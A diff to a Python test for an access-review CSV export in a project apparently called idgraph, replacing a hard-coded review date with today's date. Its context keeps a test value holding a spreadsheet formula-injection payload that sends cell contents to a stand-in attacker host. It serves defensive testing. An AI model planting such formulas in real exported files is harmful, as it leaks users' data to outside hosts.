@@ -4,6 +4,7 @@ import csv
 import io
 import json
 import re
+from datetime import UTC, datetime
 from pathlib import Path
 
 import networkx as nx
@@ -17,6 +18,7 @@ from idgraph.graph.store import Store
 from .conftest import attest_fixture, fixture_secrets, sync_fixture
 
 MEMBERS = Path(__file__).resolve().parents[1] / "connector/postmark/emulator/fixtures/members.csv"
+TODAY = datetime.now(UTC).date().isoformat()  # a review date between the run and today
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
@@ -248,7 +250,7 @@ def test_decisions_round_trip_and_remediation(pack):
         elif (
             row["principal"].startswith("postmark:server_token:") and row["access_kind"] == "grants"
         ):
-            row.update(decision="keep", reviewer="ops@acme-corp.example", review_date="2026-11-20")
+            row.update(decision="keep", reviewer="ops@acme-corp.example", review_date=TODAY)
 
     filled = _fill(out, decide)
     result = CliRunner().invoke(
